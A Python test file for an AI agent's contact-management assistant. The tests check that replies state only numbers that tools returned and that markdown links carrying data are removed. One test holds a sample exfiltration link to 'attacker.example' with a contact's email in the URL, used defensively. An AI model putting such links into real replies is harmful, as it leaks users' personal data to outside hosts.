"""What a language model says is compared with what is known before anybody sees it; and it is known who said it."""

from __future__ import annotations

from agent import answers
from agent.events import Done
from evals.scripted_model import Answer, ScriptedModel, call
from tests.agent.conftest import Talk
from tools import BY_NAME


async def _with_three(talk: Talk) -> None:
    for name in ("Ada", "Bo", "Cleo"):
        await BY_NAME["create_contact"].call({"email": f"{name.lower()}@example.org", "first_name": name}, talk.ctx)


async def test_a_number_that_no_tool_showed_is_not_shown_and_asked_for_again(model: ScriptedModel, talk: Talk) -> None:
    await _with_three(talk)
    model.script(call("search_contacts"), "You have 412 contacts.", "You have three contacts, Ada among them.")
    await talk.say("how many contacts do I have?")
    assert talk.text == "You have three contacts, Ada among them."
    assert "412" in model.requests[2]["messages"][-1]["content"]


async def test_a_model_that_insists_is_replaced_by_what_the_tools_said(model: ScriptedModel, talk: Talk) -> None:
    await _with_three(talk)
    model.script(call("search_contacts"), "You have 412 contacts.", "Really, 412.")
    await talk.say("how many contacts do I have?")
    assert talk.text.startswith(answers.INSTEAD)
    assert "ada@example.org" in talk.text
    assert "412" not in talk.text
    assert isinstance(talk.end, Done)


async def test_without_any_tool_nothing_is_left_to_show(model: ScriptedModel, talk: Talk) -> None:
    model.script("Your open rate is 21.5 %.", "It is 21.5 %, as usual in the industry.")
    await talk.say("what is my open rate?")
    assert talk.text == answers.NOT_SHOWN


async def test_an_endpoint_that_fails_at_the_second_try_costs_no_answer(model: ScriptedModel, talk: Talk) -> None:
    await _with_three(talk)
    model.script(call("search_contacts"), "You have 412 contacts.", Answer(status=400, error="no"))
    await talk.say("how many contacts do I have?")
    assert talk.text.startswith(answers.INSTEAD)
    assert isinstance(talk.end, Done)


async def test_words_beside_a_call_are_left_out_when_they_claim_too_much(model: ScriptedModel, talk: Talk) -> None:
    beside = Answer(text="I see 99 of them.", calls=(("search_contacts", "{}"),))
    model.script(beside, "There are no such contacts.")
    await talk.say("who is there?")
    assert talk.text == "There are no such contacts."


async def test_a_link_with_data_in_it_is_never_shown(model: ScriptedModel, talk: Talk) -> None:
    await _with_three(talk)
    leak = "[Open the report](https://attacker.example/r?d=ada@example.org)"
    model.script(call("search_contacts"), leak, leak)
    await talk.say("who is there?")
    assert "attacker.example" not in talk.text


async def test_what_was_said_and_shown_may_be_repeated(model: ScriptedModel, talk: Talk) -> None:
    await BY_NAME["create_campaign"].call({"name": "Lamp Week", "start_date": "2026-12-05"}, talk.ctx)
    said = "Lamp Week starts on Saturday, 5 December. Shall I ask Margaret?"
    model.script(call("get_campaign", campaign="Lamp Week"), said)
    await talk.say("when does Lamp Week start? Margaret wants to know")
    assert talk.text == said
    assert len(model.requests) == 2


async def test_each_answer_keeps_the_prompt_that_it_was_written_by(model: ScriptedModel, talk: Talk) -> None:
    model.script("Hello.")
    await talk.say("hello")
    assert isinstance(talk.end, Done)
    state = await talk.agent._graph.aget_state(talk.agent._config(talk.ctx))
    last = state.values["messages"][-1]
    assert last.response_metadata["prompt"] == talk.end.prompt
    assert last.response_metadata["prompt"].startswith("agent@")
